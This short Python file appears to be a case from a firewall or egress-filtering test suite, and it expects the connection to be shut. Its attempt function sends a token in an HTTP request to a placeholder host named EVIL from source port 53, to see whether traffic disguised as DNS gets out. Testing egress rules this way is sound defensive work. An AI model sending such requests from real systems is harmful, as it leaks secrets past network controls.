"""
how: TCP from the port of DNS
expect: shut
"""

from land import EVIL, bad
from sockets import tcp
from web import get


def attempt(token):
    return tcp(EVIL, 80, get(bad(token)), source=53)
